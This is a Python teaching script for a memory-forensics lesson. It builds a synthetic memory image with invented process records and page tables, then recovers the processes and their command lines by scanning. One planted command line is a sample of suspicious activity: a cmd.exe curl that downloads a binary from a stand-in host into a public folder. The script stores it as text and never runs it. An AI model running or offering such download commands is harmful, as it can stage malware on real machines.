"""Worked example of the memory-forensics lesson: find processes and text in a memory image by scanning.

Makes its own input in the current folder, memory.raw (128 KiB, 32 pages of 4 KiB): noise, four process
records in a simplified layout of our own (not a real Windows structure), a small page table per process,
and the processes' command lines in UTF-16LE, one of them split across two pages that are far apart.
Then scans for the records, reads each command line through its process's page table, and finally runs a
strings-style scan of the raw bytes and says which process owns each hit. Standard library only.
"""
import random
import re
import struct
from pathlib import Path

PAGE, PAGES = 4096, 32
# Our record: tag, PID, PPID, page-table page, command-line virtual address and length, 16-byte name.
RECORD = struct.Struct("<4sIIIIH2x16s")
memory = bytearray(random.Random(11).randbytes(PAGE * PAGES))    # fixed seed: the same noise on every run


def put(page: int, offset: int, data: bytes) -> None:
    memory[page * PAGE + offset:page * PAGE + offset + len(data)] = data


def add_process(pid, ppid, name, at, table_page=0, mapping=None, cmdline="", cmd_va=0):
    """Write the record; fill the page table (entry n = physical page of virtual page n, 0 = not present)."""
    text = cmdline.encode("utf-16-le")
    put(*at, RECORD.pack(b"TASK", pid, ppid, table_page, cmd_va, len(text), name.encode()))
    if table_page:
        entries = [0] * (PAGE // 4)
        for virtual, physical in (mapping or {}).items():
            entries[virtual] = physical
        put(table_page, 0, struct.pack(f"<{PAGE // 4}I", *entries))
        for i in range(0, len(text), 2):        # copy the command line into the pages the table maps
            va = cmd_va + i
            put(mapping[va // PAGE], va % PAGE, text[i:i + 2])


curl = r"cmd.exe /c curl -o C:\Users\Public\a.bin http://updates.example.test/a.bin"
split_va = 0x10 * PAGE + PAGE - 2 * (curl.index("http") + 10)     # ten characters of the URL fit on the page
add_process(4, 0, "System", (3, 0x100))
add_process(1520, 1496, "explorer.exe", (7, 0x2C0), 5, {0x10: 9}, r"C:\Windows\Explorer.EXE", 0x10040)
add_process(3104, 1520, "cmd.exe", (19, 0x840), 12, {0x10: 23, 0x11: 14}, curl, split_va)
add_process(3388, 1520, "notepad.exe", (28, 0x1A0), 21, {0x10: 17, 0x20: 26},
            r"notepad.exe C:\Users\alex\todo.txt", 0x10080)
put(26, 0x300, b"TASKS: renew the domain, pay the invoice\r\n")   # notepad's text buffer, in ASCII
Path("memory.raw").write_bytes(memory)

# ---- Analysis: only the bytes of memory.raw from here on --------------------------------------------------
mem = Path("memory.raw").read_bytes()
print(f"memory.raw: {len(mem)} bytes, {len(mem) // PAGE} pages of {PAGE}")

print("\n1. Scan every offset for the tag b'TASK' and check the fields around it:")
processes = []
for hit in re.finditer(b"TASK", mem):
    tag, pid, ppid, table, va, length, name = RECORD.unpack_from(mem, hit.start())
    name = name.rstrip(b"\0")
    if pid >= 0x10000 or ppid >= 0x10000:
        print(f"  0x{hit.start():05x}  rejected: PID field {pid} is not a process ID ({mem[hit.start():][:16]!r})")
    elif table >= PAGES or not re.fullmatch(rb"[\x20-\x7e]+", name):
        print(f"  0x{hit.start():05x}  rejected: fields out of range")
    else:
        print(f"  0x{hit.start():05x}  process record, PID {pid}")
        processes.append((pid, ppid, name.decode(), table, va, length))

print("\n2. The records as a process list:")
print("  PID   PPID  ImageFileName  page table")
for pid, ppid, name, table, _, _ in sorted(processes):
    print(f"  {pid:<5} {ppid:<5} {name:<14} {'page ' + str(table) if table else '(kernel)'}")


def translate(table: int, va: int) -> int:
    """Virtual address -> physical offset, through the process's page table."""
    entry = struct.unpack_from("<I", mem, table * PAGE + 4 * (va // PAGE))[0]
    if entry == 0:
        raise ValueError(f"virtual page 0x{va // PAGE:x} not present")
    return entry * PAGE + va % PAGE


print("\n3. Each command line, read through its process's page table:")
for pid, _, name, table, va, length in sorted(processes):
    if not table:
        continue
    pages = list(dict.fromkeys(translate(table, va + i) // PAGE for i in range(0, length, 2)))
    text = b"".join(mem[translate(table, va + i):translate(table, va + i) + 2] for i in range(0, length, 2))
    print(f"  {pid} {name}: virtual 0x{va:x}, physical page(s) {pages}")
    print(f"    {text.decode('utf-16-le')}")

print("\n4. UTF-16LE strings of 8+ characters in the raw image, and which process maps each page:")
owners = {}
for pid, _, name, table, _, _ in processes:
    if table:
        for virtual, physical in enumerate(struct.unpack_from(f"<{PAGE // 4}I", mem, table * PAGE)):
            if physical:
                owners[physical] = (pid, name, virtual)
for m in re.finditer(rb"(?:[\x20-\x7e]\x00){8,}", mem):
    page, offset = divmod(m.start(), PAGE)
    if page in owners:
        pid, name, virtual = owners[page]
        owner = f"{name} {pid}, virtual 0x{virtual * PAGE + offset:x}"
    else:
        owner = "no process maps this page"
    print(f"  0x{m.start():05x}  page {page:2}  {owner}")
    print(f"    {m.group().decode('utf-16-le')}")
